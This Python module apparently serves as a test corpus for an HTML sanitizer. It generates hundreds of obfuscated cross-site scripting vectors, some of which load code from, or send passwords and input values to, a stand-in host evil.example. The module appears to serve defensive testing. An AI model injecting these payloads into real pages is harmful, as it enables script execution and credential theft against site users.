"""Elements and attributes that run a script, written in every way that a browser still reads."""

from __future__ import annotations

from typing import Final

SCRIPT: Final = "alert(1)"


def script_elements() -> list[str]:
    return [
        f"<script>{SCRIPT}</script>",
        f"<SCRIPT>{SCRIPT}</SCRIPT>",
        f"<ScRiPt>{SCRIPT}</sCrIpT>",
        f"<script >{SCRIPT}</script >",
        f"<script\t>{SCRIPT}</script\t>",
        f"<script\n>{SCRIPT}</script\n>",
        f"<script\f>{SCRIPT}</script\f>",
        f"<script/>{SCRIPT}</script/>",
        f"<script/x>{SCRIPT}</script/x>",
        f'<script x="y">{SCRIPT}</script>',
        f"<script <script>{SCRIPT}</script>",
        f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
        f"<<script>{SCRIPT}//<</script>",
        f"<script>{SCRIPT}",
        f"<script>{SCRIPT}<!--",
        f"<script>{SCRIPT}//",
        "<script src=//evil.example/x.js></script>",
        "<script src='https://evil.example/x.js'>",
        "<script src=data:text/javascript,alert(1)></script>",
        "<script/src=data:,alert(1)>",
        "<script type=module>import('//evil.example/x.js')</script>",
        f"<script type=text/vbscript>{SCRIPT}</script>",
        f"<script type=speculationrules>{SCRIPT}</script>",
        f"<script nonce=abc>{SCRIPT}</script>",
        f"<script xmlns=http://www.w3.org/1999/xhtml>{SCRIPT}</script>",
        f"<x:script xmlns:x=http://www.w3.org/1999/xhtml>{SCRIPT}</x:script>",
        f"<b><script>{SCRIPT}</script></b>",
        f"text <script>{SCRIPT}</script> text",
        f"<script>/*</script><script>*/{SCRIPT}</script>",
        f"<script><!--\n{SCRIPT}\n--></script>",
        f"<script>//<![CDATA[\n{SCRIPT}\n//]]></script>",
        f"</script><script>{SCRIPT}</script>",
        f"<p><script>{SCRIPT}</p></script>",
        f"<script>{SCRIPT}</script",
        f"<script\x0b>{SCRIPT}</script>",
        f"<script\x00>{SCRIPT}</script>",
        f"<scr\x00ipt>{SCRIPT}</scr\x00ipt>",
        f"\x00<script>{SCRIPT}</script>",
        f"<\x00script>{SCRIPT}</script>",
        f"<script>\u2028{SCRIPT}</script>",
        f"<s\u0000cript>{SCRIPT}</script>",
        f"<ſcript>{SCRIPT}</ſcript>",
        f"<scrıpt>{SCRIPT}</scrıpt>",
    ]


_HANDLER_TAGS: Final = (
    "a abbr address article audio b blockquote body br button canvas caption code col dd del details div dl embed em"
    " figure font form frameset h1 hr i iframe img input isindex kbd li link mark marquee math meter nav object ol p"
    " picture pre q section select span strong style sub summary svg table tbody td textarea th tr u ul video x-y"
).split()
_EVENTS: Final = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbegin onblur"
    " oncanplay onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondrop onend onerror onfinish onfocus"
    " onfocusin onhashchange oninput oninvalid onkeydown onkeyup onload onloadstart onmessage onmousedown onmouseenter"
    " onmouseleave onmousemove onmouseover onmousewheel onpageshow onpaste onplay onpointerdown onpointerover"
    " onpointerrawupdate onpopstate onrepeat onresize onscroll onscrollend onsearch onsecuritypolicyviolation onselect"
    " onselectstart onshow onstart onsubmit ontoggle ontouchstart ontransitionend onunload onwheel onwebkitanimationend"
).split()


def handlers() -> list[str]:
    """Every tag once and every event at least once."""
    quotes = ("{}", '"{}"', "'{}'", "`{}`")
    out = []
    for number in range(max(len(_HANDLER_TAGS), len(_EVENTS)) * 2):
        tag = _HANDLER_TAGS[number % len(_HANDLER_TAGS)]
        event = _EVENTS[(number * 7) % len(_EVENTS)]
        out.append(f"<{tag} {event}={quotes[number % 4].format(SCRIPT)}>x</{tag}>")
    out += [
        f"<img src=x onerror={SCRIPT}>",
        f"<svg onload={SCRIPT}>",
        f"<body onload={SCRIPT}>",
        f"<details open ontoggle={SCRIPT}>",
        f"<video><source onerror={SCRIPT}></video>",
        f"<audio src onerror={SCRIPT}>",
        f"<input autofocus onfocus={SCRIPT}>",
        f"<select autofocus onfocus={SCRIPT}>",
        f"<textarea autofocus onfocus={SCRIPT}>",
        f"<keygen autofocus onfocus={SCRIPT}>",
        f"<div tabindex=0 autofocus onfocus={SCRIPT}>",
        f"<x contenteditable autofocus onfocus={SCRIPT} id=x>#x",
        f"<marquee loop=1 width=0 onfinish={SCRIPT}>x</marquee>",
        f"<style onload={SCRIPT}></style>",
        f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={SCRIPT}></b>",
        f"<iframe onload={SCRIPT}></iframe>",
        f"<object data=x onerror={SCRIPT}></object>",
        f"<link rel=stylesheet href=x onerror={SCRIPT}>",
        f"<img src=x ONERROR={SCRIPT}>",
        f"<img src=x OnErRoR={SCRIPT}>",
        f"<img src=x on\x00error={SCRIPT}>",
        f"<img src=x onerror\x00={SCRIPT}>",
        f"<img src=x onerror\x0b={SCRIPT}>",
        f"<img src=x onerror =\n{SCRIPT}>",
        f"<div popover onbeforetoggle={SCRIPT} id=p></div><button popovertarget=p>x</button>",
        "<img src=x onerror=&#97;lert(1)>",
        "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#40;1&#41;>",
        "<img src=x onerror=\\u0061lert(1)>",
        "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
        "<img src=x onerror=location='javas'+'cript:alert(1)'>",
        "<img src=x onerror=import('//evil.example/')>",
        "<img src=x onerror=top[`al`+`ert`](1)>",
    ]
    return out


def separators() -> list[str]:
    out = []
    for separator in (
        " ",
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\f",
        "/",
        "//",
        " / ",
        "/ /",
        "\x0b ",
        "\xa0 ",
        "\x00 ",
        "  \t\n",
    ):
        out.append(f"<img{separator}src=x{separator}onerror={SCRIPT}>")
        out.append(f"<svg{separator}onload={SCRIPT}>")
    out += [
        f'<img src="x"onerror={SCRIPT}>',
        f"<img src='x'onerror='{SCRIPT}'>",
        f'<img """><img src=x onerror={SCRIPT}>">',
        f'<img src="x` `<script>{SCRIPT}</script>"` `>',
        f"<img src=x alt='><' onerror={SCRIPT}>",
        f'<img src=x title="/" onerror="{SCRIPT}">',
        f"<img src=x title=' onerror={SCRIPT}>",
        f'<img src=x title=" onerror={SCRIPT}>',
        f"<img src=x =onerror={SCRIPT} onerror={SCRIPT}>",
        f'<img ="" src=x onerror={SCRIPT}>',
        f"<img '' src=x onerror={SCRIPT}>",
        f'<img/"/src=x onerror={SCRIPT}>',
        f"<img src=x onerror={SCRIPT}//",
        f"<img src=x onerror={SCRIPT}",
        f"<img src=x onerror={SCRIPT} <b>",
        f"<img src=x <onerror={SCRIPT}>",
        f"<img src=x onerror={SCRIPT} onerror=x>",
        f"<img src=x a=1 a=2 onerror={SCRIPT} a=3>",
        f'<img src=x onerror="{SCRIPT}">',
        f"<a b='\"' onclick={SCRIPT} c='\"'>x</a>",
        f"<a href='x' onclick='{SCRIPT}' href='y'>x</a>",
        f'<a title="\'" onclick={SCRIPT}>x</a>',
        f"< img src=x onerror={SCRIPT}>",
        f"<\timg src=x onerror={SCRIPT}>",
        f"<!<img src=x onerror={SCRIPT}>",
        f"<?<img src=x onerror={SCRIPT}>",
        f"</ <img src=x onerror={SCRIPT}>",
        f"<//img src=x onerror={SCRIPT}>",
        f"</p/x onclick={SCRIPT}><p/x onclick={SCRIPT}>x",
        f"<0 onclick={SCRIPT}>",
        f"<-x onclick={SCRIPT}>",
    ]
    return out


def documents() -> list[str]:
    return [
        "<base href=//evil.example/>",
        "<base target=_blank href=javascript:/a/>",
        f"<base href=javascript:/a/><a href=/{SCRIPT}>x</a>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
        "<META HTTP-EQUIV=ReFresh CONTENT='0 ;URL=http://evil.example'>",
        "<meta http-equiv=Set-Cookie content=sessionid=1>",
        "<meta http-equiv=Content-Security-Policy content=script-src&#32;*>",
        "<meta charset=utf-7>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x>",
        "<link rel=prefetch href=//evil.example/x>",
        "<link rel=icon href=javascript:alert(1)>",
        "<link rel=manifest href=data:,{}>",
        "<object data=javascript:alert(1)></object>",
        "<object type=text/html data=//evil.example></object>",
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
        "<embed src=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf allowscriptaccess=always>",
        "<embed code=//evil.example/x.swf>",
        "<applet code=javascript:alert(1)>",
        "<applet archive=//evil.example/x.jar code=X></applet>",
        "<iframe src=//evil.example></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
        "<frame src=javascript:alert(1)>",
        "<portal src=//evil.example></portal>",
        "<fencedframe src=//evil.example></fencedframe>",
        "<html onload=alert(1)>",
        "<body background=javascript:alert(1)>",
        "<body onpageshow=alert(1)>",
        "<bgsound src=javascript:alert(1)>",
        "<layer src=//evil.example></layer>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>x</div>",
        "<dialog open><form method=dialog><button>x</button></form></dialog>",
        "<noscript><meta http-equiv=refresh content=0;url=//evil.example></noscript>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video src=x onerror=alert(1)></video>",
        "<canvas onclick=alert(1)></canvas>",
        "<form action=//evil.example><input name=password type=password><button>x</button></form>",
        "<textarea name=x></textarea><select name=y><option>z</select>",
        "<input type=image src=x onerror=alert(1)>",
        "<button type=submit formaction=javascript:alert(1)>x</button>",
    ]


def styles() -> list[str]:
    return [
        "<style>@import '//evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<style>*{-moz-binding:url(//evil.example/x.xml#x)}</style>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1)>x</b>",
        "<STYLE type=text/javascript>alert(1);</STYLE>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<style></style\t><img src=x onerror=alert(1)>",
        "<style></style/x><img src=x onerror=alert(1)>",
        "<style><b title='</style><img src=x onerror=alert(1)>'>",
        "<b style=xss:expression(alert(1))>x</b>",
        "<b style='xss:expr/**/ession(alert(1))'>x</b>",
        "<b style='x\\78 ss:e\\78pression(alert(1))'>x</b>",
        "<b style='background:url(javascript:alert(1))'>x</b>",
        "<b style=\"background:u&#x72;l('javascript:alert(1)')\">x</b>",
        "<b style='behavior:url(x.htc)'>x</b>",
        "<b style='-moz-binding:url(//evil.example/x.xml#x)'>x</b>",
        "<b STYLE='position:fixed;inset:0;z-index:9999'>x</b>",
        "<a style=position:fixed;top:0;left:0;width:100%;height:100% href=//evil.example>x</a>",
        "<b style=width:expression&#40;alert(1)&#41;>x</b>",
        "<b style='list-style-image:url(\"javascript:alert(1)\")'>x</b>",
        "<div style=\"content:'</div><script>alert(1)</script>'\">x</div>",
        "<p style>x</p>",
        "<p style=''>x</p>",
        "<p style\x00=x>x</p>",
        "<link rel=stylesheet href=data:text/css,*{x:expression(alert(1))}>",
        "<table style='x' background=javascript:alert(1)>",
        "<font style=x color=x>y</font>",
        "<span style='font-size:9999px;color:transparent;opacity:0'>x</span>",
    ]
